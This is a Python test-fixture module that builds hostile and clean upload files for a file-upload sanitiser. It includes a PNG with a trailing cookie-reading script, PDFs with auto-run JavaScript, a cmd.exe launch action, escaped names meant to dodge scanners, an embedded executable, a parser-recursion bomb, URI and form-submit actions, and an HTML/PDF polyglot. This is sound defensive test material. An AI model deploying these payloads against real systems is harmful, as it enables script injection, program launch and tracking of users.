"""Hostile and clean files for the upload tests (ocop.core.uploads), built in memory."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image

from ocop.core.pdf import assemble


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_declaring(width: int, height: int) -> bytes:
    """A PNG whose header declares width × height grey pixels and whose data holds none (a few dozen bytes)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", zlib.compress(b"")) + _chunk(b"IEND", b"")


def picture() -> Image.Image:
    """A small two-colour picture (left half red, right half blue), 40 × 20."""
    image = Image.new("RGB", (40, 20), (200, 30, 30))
    image.paste((30, 30, 200), (20, 0, 40, 20))
    return image


def png_bytes(image: Image.Image | None = None) -> bytes:
    out = io.BytesIO()
    (image or picture()).save(out, "PNG")
    return out.getvalue()


HTML_TAIL = b"<html><script>alert(document.cookie)</script></html>"


def png_then_html() -> bytes:
    """A valid PNG with an HTML page after its IEND chunk (a browser sniffing it would run the script)."""
    return png_bytes() + HTML_TAIL


GPS = {1: "N", 2: (21.0, 1.0, 30.0), 3: "E", 4: (105.0, 51.0, 10.0)}  # Hà Nội


def jpeg_with_gps(orientation: int = 6) -> bytes:
    """A 40 × 20 JPEG with EXIF: the camera, the GPS position and an orientation (6: turn 90° clockwise to show)."""
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0112] = orientation
    gps = exif.get_ifd(0x8825)
    gps.update(GPS)
    out = io.BytesIO()
    picture().save(out, "JPEG", exif=exif, quality=95)
    return out.getvalue()


def pdf(catalog_extra: bytes = b"", *extra_objects: bytes, page_extra: bytes = b"") -> bytes:
    """A one-page PDF; `catalog_extra` goes into the catalog (object 1), `page_extra` into the page (object 3) and
    `extra_objects` are numbered from 4."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page_extra + b" >>",
        *extra_objects,
    ]
    return assemble(objects, b"1.7")


def pdf_open_action_script() -> bytes:
    return pdf(b"/OpenAction 4 0 R", b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>")


def pdf_launch() -> bytes:
    """A page that, when opened, launches a program (/AA /O: the page-open action)."""
    return pdf(b"", b"<< /S /Launch /F (cmd.exe) /NewWindow true >>", page_extra=b"/AA << /O 4 0 R >>")


def pdf_script_name_tree_escaped() -> bytes:
    """Document-level JavaScript in the /Names tree, the names spelled with #xx escapes (no plain /JavaScript in
    the bytes)."""
    return pdf(
        b"/Names << /Java#53cript 4 0 R >>",
        b"<< /Names [(a) 5 0 R] >>",
        b"<< /S /Java#53cript /J#53 (app.alert\\(1\\)) >>",
    )


def pdf_embedded_file() -> bytes:
    return pdf(
        b"/Names << /EmbeddedFiles 4 0 R >>",
        b"<< /Names [(x.exe) 5 0 R] >>",
        b"<< /Type /Filespec /F (x.exe) >>",
    )


def pdf_deeply_nested() -> bytes:
    """An object nested 5,000 arrays deep (pypdf's parser recurses once per level)."""
    return pdf(b"/Extra 4 0 R", b"[" * 5000 + b"]" * 5000)


def pdf_xfa_form() -> bytes:
    """An XFA form: its scripts sit in a compressed stream no byte scan reads."""
    return pdf(b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"<< /Length 0 >>\nstream\nendstream")


def pdf_open_action_uri() -> bytes:
    """Opening it calls an outside address."""
    return pdf(b"/OpenAction << /S /URI /URI (http://example.invalid/track) >>")


def pdf_page_submit_form() -> bytes:
    """A page's additional action that sends the form's data away."""
    return pdf(page_extra=b"/AA << /O << /S /SubmitForm /F (http://example.invalid/) >> >>")


def pdf_with_a_link() -> bytes:
    """A plain hyperlink on the page (clicked, not automatic): kept."""
    return pdf(
        page_extra=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://ocop.gov.vn) >> >>]"
    )


def html_then_pdf() -> bytes:
    """A file that opens as HTML and holds a PDF further on (a polyglot)."""
    return b"<html><img src=x onerror=alert(1)>\n" + pdf() + b"<script>alert(2)</script></html>"
